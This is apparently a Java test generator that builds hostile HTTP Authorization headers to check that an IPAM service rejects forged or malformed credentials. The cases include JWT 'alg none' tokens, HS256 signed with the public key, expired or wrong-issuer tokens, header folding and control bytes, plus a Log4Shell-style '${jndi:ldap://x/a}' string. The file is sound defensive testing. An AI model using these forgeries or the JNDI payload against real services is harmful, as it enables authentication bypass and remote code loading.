package dev.ipamql.input;

import static dev.ipamql.support.Generators.anyStrings;
import static dev.ipamql.support.Generators.asciiStrings;
import static dev.ipamql.support.Generators.booleans;
import static dev.ipamql.support.Generators.bytes;
import static dev.ipamql.support.Generators.bytesBetween;
import static dev.ipamql.support.Generators.frequency;
import static dev.ipamql.support.Generators.integers;
import static dev.ipamql.support.Generators.just;
import static dev.ipamql.support.Generators.lists;
import static dev.ipamql.support.Generators.of;
import static dev.ipamql.support.Generators.oneOf;
import static dev.ipamql.support.Generators.stringsOf;
import static dev.ipamql.support.Generators.weight;

import dev.ipamql.support.Tokens;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.quicktheories.core.Gen;

/**
 * Hostile {@code Authorization} headers, as the exact bytes of the header lines sent. {@link Verdict#INVALID}:
 * no valid credential, so the answer must be UNAUTHENTICATED (or an HTTP 4xx for a header the server
 * refuses); {@link Verdict#UNKNOWN}: a request the service may also serve (a valid token in an odd
 * spelling, or a token of the trusted issuer with odd claims), which must still get a contract answer.
 */
final class HostileTokens {

    /** What is sent: the header lines (exact bytes, no CRLF) and a readable label. */
    record AuthCase(List<byte[]> lines, String label, Verdict verdict) {
        @Override
        public String toString() {
            return label + " (" + verdict + ")";
        }
    }

    private static final Base64.Encoder URL = Base64.getUrlEncoder().withoutPadding();
    private static final String ISSUER = "ipamql-local";
    private static final String AUDIENCE = "ipamql";

    private static volatile PrivateKey otherKey;

    private HostileTokens() {
    }

    /** A private key that the service does not trust (generated once per run). */
    static PrivateKey otherKey() {
        if (otherKey == null) {
            synchronized (HostileTokens.class) {
                if (otherKey == null) {
                    try {
                        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
                        generator.initialize(2048);
                        otherKey = generator.generateKeyPair().getPrivate();
                    } catch (Exception e) {
                        throw new IllegalStateException(e);
                    }
                }
            }
        }
        return otherKey;
    }

    static AuthCase header(String value, String label, Verdict verdict) {
        return new AuthCase(List.of(("Authorization: " + value).getBytes(StandardCharsets.UTF_8)), label, verdict);
    }

    private static String b64(String json) {
        return URL.encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    private static long now() {
        return System.currentTimeMillis() / 1000;
    }

    /** Admin claims of the configured issuer and audience, valid for an hour, as JSON (without braces). */
    private static String adminClaims() {
        long now = now();
        return "\"iss\":\"" + ISSUER + "\",\"aud\":\"" + AUDIENCE + "\",\"sub\":\"hostile\",\"upn\":\"hostile\","
                + "\"groups\":[\"ipam-admin\"],\"namespaces\":[\"*\"],\"iat\":" + now + ",\"exp\":" + (now + 3600);
    }

    /** RS256 over header.payload with the given key. */
    static String signRs256(String headerJson, String payloadJson, PrivateKey key) {
        try {
            String input = b64(headerJson) + "." + b64(payloadJson);
            java.security.Signature rsa = java.security.Signature.getInstance("SHA256withRSA");
            rsa.initSign(key);
            rsa.update(input.getBytes(StandardCharsets.US_ASCII));
            return input + "." + URL.encodeToString(rsa.sign());
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** HS256 with the given secret: the algorithm-confusion attack when the secret is the public key. */
    static String signHs256(String payloadJson, byte[] secret) {
        try {
            String input = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + b64(payloadJson);
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            return input + "." + URL.encodeToString(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** Tokens that no trusted issuer signed, or that are expired, not yet valid or for someone else. */
    static Gen<AuthCase> forgedTokens() {
        String rs256 = "{\"alg\":\"RS256\",\"typ\":\"JWT\"}";
        byte[] publicPem;
        try {
            publicPem = java.nio.file.Files.readAllBytes(Tokens.PUBLIC_KEY);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        List<Gen<AuthCase>> cases = new ArrayList<>();
        cases.add(of("none", "None", "NONE", "nOnE", "").map(alg -> {
            String unsigned = b64("{\"alg\":\"" + alg + "\",\"typ\":\"JWT\"}") + "." + b64("{" + adminClaims() + "}");
            return header("Bearer " + unsigned + ".", "alg '" + alg + "' token, admin claims, no signature", Verdict.INVALID);
        }));
        cases.add(of("none", "RS256").map(alg -> {
            String admin = Tokens.ADMIN;
            String signature = admin.substring(admin.lastIndexOf('.'));
            String forged = b64("{\"alg\":\"" + alg + "\",\"typ\":\"JWT\"}") + "." + b64("{" + adminClaims()
                    .replace("\"sub\":\"hostile\"", "\"sub\":\"someone-else\"") + "}") + signature;
            return header("Bearer " + forged, "claims changed under the admin token's signature (alg " + alg + ")",
                    Verdict.INVALID);
        }));
        cases.add(just(header("Bearer " + signHs256("{" + adminClaims() + "}", publicPem),
                "HS256 signed with the public key as HMAC secret", Verdict.INVALID)));
        cases.add(of("x", "secret", "ipamql").map(secret -> header("Bearer " + signHs256("{" + adminClaims() + "}",
                secret.getBytes(StandardCharsets.UTF_8)), "HS256 with secret '" + secret + "'", Verdict.INVALID)));
        cases.add(just(0).map(ignored -> header("Bearer " + Tokens.sign("hostile", List.of("ipam-admin"),
                List.of("*"), 3600, ISSUER, otherKey()), "admin token signed by an untrusted key", Verdict.INVALID)));
        cases.add(of(-120L, -3600L, -86_400L * 365).map(seconds -> header("Bearer " + Tokens.token("hostile",
                List.of("ipam-admin"), List.of("*"), seconds), "admin token expired " + -seconds + " s ago", Verdict.INVALID)));
        cases.add(of("evil", "", "IPAMQL-LOCAL", "ipamql-local ").map(issuer -> header("Bearer "
                + Tokens.sign("hostile", List.of("ipam-admin"), List.of("*"), 3600, issuer, Tokens.privateKey()),
                "admin token of issuer '" + issuer + "'", Verdict.INVALID)));
        cases.add(of("\"aud\":\"other\"", "\"aud\":[\"other\"]", "\"aud\":\"\"", "\"aud\":null").map(aud ->
                header("Bearer " + signRs256(rs256, "{" + adminClaims().replace("\"aud\":\"" + AUDIENCE + "\"", aud) + "}",
                        Tokens.privateKey()), "admin token with " + aud, Verdict.INVALID)));
        cases.add(of(600L, 3600L, 86_400L).map(ahead -> header("Bearer " + signRs256(rs256, "{" + adminClaims()
                        + ",\"nbf\":" + (now() + ahead) + "}", Tokens.privateKey()),
                "admin token not valid before now + " + ahead + " s", Verdict.INVALID)));
        cases.add(of("\"never\"", "null", "-1", "0", "99999999999999999999999", "\"" + (now() + 3600) + "\"",
                "[1]", "{}").map(exp -> header("Bearer " + signRs256(rs256, "{" + adminClaims().replaceAll("\"exp\":[0-9]+",
                java.util.regex.Matcher.quoteReplacement("\"exp\":" + exp)) + "}", Tokens.privateKey()), "admin token with exp " + exp, Verdict.INVALID)));
        // the admin token itself, broken
        String admin = Tokens.ADMIN;
        cases.add(integers(1, admin.length() - 1).map(cut -> header("Bearer " + admin.substring(0, cut),
                "admin token cut to " + cut + " characters", Verdict.INVALID)));
        cases.add(integers(0, admin.length() - 1).zip(of('A', 'B', '_', '-', '.', '0'), (at, c) -> {
            String changed = admin.substring(0, at) + c + admin.substring(at + 1);
            // the last character of the base64url signature also carries 4 padding bits: some other
            // characters there decode to the same signature bytes, and a lenient decoder accepts them
            boolean sameSignature = changed.equals(admin) || at == admin.length() - 1;
            return header("Bearer " + changed, "admin token with character " + at + " set to '" + c + "'",
                    sameSignature ? Verdict.UNKNOWN : Verdict.INVALID);
        }));
        cases.add(of(admin + "x", admin + ".x", admin + ".", "x" + admin, admin.replace(".", ".."),
                admin.replace(".", ""), admin + "." + admin, admin.substring(0, admin.lastIndexOf('.')),
                admin.substring(0, admin.lastIndexOf('.') + 1), admin + ".e30.e30", "e30.e30.", "..", ".", "a.b.c", "a.b.c.d.e")
                .map(token -> header("Bearer " + token, "broken admin token " + JsonText.shown(token, 60), Verdict.INVALID)));
        return oneOf(cases);
    }

    /** Tokens of the trusted issuer whose claims have odd types or values: any contract answer but INTERNAL. */
    static Gen<AuthCase> oddClaims() {
        String rs256 = "{\"alg\":\"RS256\",\"typ\":\"JWT\"}";
        List<String> groups = List.of("\"groups\":{\"ipam-admin\":true}", "\"groups\":5", "\"groups\":null", "\"groups\":[]",
                "\"groups\":[5,null,{}]", "\"groups\":\"ipam-admin\"", "\"groups\":[[\"ipam-admin\"]]", "\"groups\":true",
                "\"groups\":[\"" + "ipam-admin".repeat(1000) + "\"]", "\"groups\":[\"ipam-admin\\u0000\"]");
        List<String> namespaces = List.of("\"namespaces\":{\"*\":true}", "\"namespaces\":5", "\"namespaces\":null",
                "\"namespaces\":\"*\"", "\"namespaces\":[5,null]", "\"namespaces\":[[\"*\"]]", "\"namespaces\":[\"\\u0000\"]",
                "\"namespaces\":[\"*\",\"" + "a".repeat(10_000) + "\"]");
        List<String> names = List.of("\"upn\":{\"a\":1}", "\"upn\":5", "\"upn\":null", "\"upn\":[\"x\"]", "\"upn\":\"x\\u0000y\"",
                "\"upn\":\"" + "u".repeat(10_000) + "\"", "\"preferred_username\":5", "\"preferred_username\":{}",
                "\"sub\":5", "\"sub\":{\"a\":1}", "\"sub\":\"\\ud800\"", "\"upn\":\"\\ud800\"");
        Gen<String> claim = oneOf(of(groups), of(namespaces), of(names));
        return lists(claim, 1, 2).map(changes -> {
            StringBuilder payload = new StringBuilder("{" + adminClaims());
            for (String change : changes) {
                String name = change.substring(1, change.indexOf('"', 1));
                String pattern = "\"" + name + "\":(\\[[^\\]]*\\]|\"[^\"]*\"|[0-9]+)";
                String replaced = payload.toString().replaceFirst(pattern, java.util.regex.Matcher.quoteReplacement(change));
                payload = new StringBuilder(replaced.equals(payload.toString()) ? payload + "," + change : replaced);
            }
            payload.append('}');
            String shown = changes.stream().map(c -> JsonText.shown(c, 80)).toList().toString();
            return header("Bearer " + signRs256(rs256, payload.toString(), Tokens.privateKey()),
                    "trusted admin token with " + shown, Verdict.UNKNOWN);
        });
    }

    /** Header values that are not a bearer token at all, or the admin token spelled oddly. */
    static Gen<AuthCase> oddHeaders() {
        String admin = Tokens.ADMIN;
        Gen<AuthCase> noHeader = just(new AuthCase(List.of(), "no Authorization header", Verdict.INVALID));
        Gen<AuthCase> randomText = HostileValues.randomText()
                .assuming(t -> t.indexOf('\r') < 0 && t.indexOf('\n') < 0)
                .map(t -> header(t, "random value " + JsonText.shown(t, 80), Verdict.INVALID));
        Gen<AuthCase> bearerGarbage = oneOf(
                        stringsOf("ABCDEFabcdef0123456789-_.=+/ ", 0, 400),
                        asciiStrings(0, 100).assuming(t -> t.indexOf('\r') < 0 && t.indexOf('\n') < 0),
                        anyStrings(0, 40).assuming(t -> t.indexOf('\r') < 0 && t.indexOf('\n') < 0))
                .assuming(Answer::echoSafe)
                .map(t -> header("Bearer " + t, "Bearer + " + JsonText.shown(t, 80), Verdict.INVALID));
        Gen<AuthCase> schemes = of("Basic YWRtaW46YWRtaW4=", "Basic " + admin, "Token " + admin, "JWT " + admin,
                        "Bearer", "Bearer ", "Bearer  ", "Bearer\t", "Bearer:" + admin, "Bearer=" + admin, "Bearer" + admin,
                        "Bearer null", "Bearer undefined", "Bearer \"" + admin + "\"", "Bearer Bearer " + admin,
                        "Digest username=\"admin\"", "Negotiate YIIB", "", " ", admin, "Bearer %s", "Bearer ${jndi:ldap://x/a}")
                .map(value -> header(value, "value " + JsonText.shown(value, 80), Verdict.INVALID));
        // the admin token spelled in ways a lenient server may accept: any contract answer
        Gen<AuthCase> spellings = of("bearer " + admin, "BEARER " + admin, "Bearer  " + admin,
                        "Bearer " + admin + " ", "Bearer \t" + admin, "Bearer " + admin + "\t")
                .map(value -> header(value, "admin token as " + JsonText.shown(value.replace(admin, "<admin>")), Verdict.UNKNOWN));
        int[] sizes = {8 * 1024, 16 * 1024, 19 * 1024, 21 * 1024, 32 * 1024, 64 * 1024, 200 * 1024};
        Gen<AuthCase> huge = of(java.util.Arrays.stream(sizes).boxed().toList())
                .zip(of("A", "a.", "\u00e9", " "), booleans(), (size, unit, bearer) -> {
                    String value = (bearer ? "Bearer " : "") + unit.repeat(size / unit.length());
                    return header(value, (bearer ? "Bearer + " : "") + size + " characters of '" + unit + "'", Verdict.INVALID);
                });
        Gen<AuthCase> paddedToken = of(admin.substring(0, 200)).map(t -> header("Bearer " + t + "A".repeat(16_000),
                "admin token prefix + 16000 characters", Verdict.INVALID));
        return frequency(weight(1, noHeader), weight(3, randomText), weight(4, bearerGarbage),
                weight(3, schemes), weight(1, spellings), weight(2, huge), weight(1, paddedToken));
    }

    /** Header lines that only a raw socket sends: control and non-UTF-8 bytes, folding, repeats, odd names. */
    static Gen<AuthCase> rawHeaders() {
        String admin = Tokens.ADMIN;
        byte[] bearer = "Authorization: Bearer ".getBytes(StandardCharsets.US_ASCII);
        Gen<AuthCase> bytes = bytes(1, 200)
                .assuming(b -> {
                    for (byte x : b) {
                        if (x == '\r' || x == '\n') {
                            return false;
                        }
                    }
                    return Answer.echoSafe(new String(b, StandardCharsets.ISO_8859_1));
                })
                .map(b -> {
                    byte[] line = new byte[bearer.length + b.length];
                    System.arraycopy(bearer, 0, line, 0, bearer.length);
                    System.arraycopy(b, 0, line, bearer.length, b.length);
                    return new AuthCase(List.of(line), "Bearer + bytes " + JsonText.shown(new String(b,
                            StandardCharsets.ISO_8859_1), 80), Verdict.INVALID);
                });
        Gen<AuthCase> control = bytesBetween((byte) 0, (byte) 31).assuming(b -> b != '\r' && b != '\n')
                .zip(integers(0, admin.length()), (c, at) -> {
                    byte[] token = admin.getBytes(StandardCharsets.US_ASCII);
                    byte[] line = new byte[bearer.length + token.length + 1];
                    System.arraycopy(bearer, 0, line, 0, bearer.length);
                    System.arraycopy(token, 0, line, bearer.length, at);
                    line[bearer.length + at] = c;
                    System.arraycopy(token, at, line, bearer.length + at + 1, token.length - at);
                    // a control character at either end may be trimmed as white space; inside it breaks the token
                    boolean trimmed = at == 0 || at == admin.length();
                    return new AuthCase(List.of(line), "admin token with byte " + c + " at " + at,
                            trimmed ? Verdict.UNKNOWN : Verdict.INVALID);
                });
        List<AuthCase> curated = List.of(
                new AuthCase(List.of(ascii("Authorization: Bearer garbage"), ascii("Authorization: Bearer " + admin)),
                        "garbage, then the admin token, in two Authorization headers", Verdict.INVALID),
                new AuthCase(List.of(ascii("Authorization: Bearer " + admin), ascii("Authorization: Bearer garbage")),
                        "the admin token, then garbage, in two Authorization headers", Verdict.UNKNOWN),
                new AuthCase(List.of(ascii("Authorization: Bearer garbage, Bearer " + admin)),
                        "two credentials in one header", Verdict.INVALID),
                new AuthCase(List.of(ascii("Authorization: Bearer"), ascii(" " + admin)),
                        "the admin token on a folded continuation line", Verdict.UNKNOWN),
                new AuthCase(List.of(ascii("Authorization: Bearer"), ascii(" garbage")),
                        "garbage on a folded continuation line", Verdict.INVALID),
                new AuthCase(List.of(ascii("Authorization : Bearer " + admin)),
                        "the admin token after 'Authorization :'", Verdict.UNKNOWN),
                new AuthCase(List.of(ascii("authorization: bearer garbage")), "lower-case garbage", Verdict.INVALID),
                new AuthCase(List.of(ascii("Proxy-Authorization: Bearer " + admin)),
                        "the admin token as Proxy-Authorization only", Verdict.INVALID),
                new AuthCase(List.of(ascii("X-Authorization: Bearer " + admin)),
                        "the admin token as X-Authorization only", Verdict.INVALID),
                new AuthCase(List.of(ascii("X-Forwarded-User: admin"), ascii("X-Remote-User: admin")),
                        "proxy identity headers, no token", Verdict.INVALID),
                new AuthCase(List.of(ascii("Authorization: Bearer \u0000" + admin)), "NUL before the admin token",
                        Verdict.INVALID),
                new AuthCase(List.of("Authorization: Bearer \u00ff\u00fe".getBytes(StandardCharsets.ISO_8859_1)),
                        "Bearer + bytes ff fe", Verdict.INVALID),
                new AuthCase(List.of(("Authorization: Bearer " + "\u00e9t\u00e9").getBytes(StandardCharsets.UTF_8)),
                        "Bearer + UTF-8 text", Verdict.INVALID));
        List<byte[]> many = new ArrayList<>();
        for (int i = 0; i < 300; i++) {
            many.add(ascii("Authorization: Bearer garbage-" + i));
        }
        List<AuthCase> all = new ArrayList<>(curated);
        all.add(new AuthCase(many, "300 Authorization headers of garbage", Verdict.INVALID));
        return frequency(weight(2, bytes), weight(2, control), weight(2, of(all)));
    }

    private static byte[] ascii(String line) {
        return line.getBytes(StandardCharsets.ISO_8859_1);
    }
}
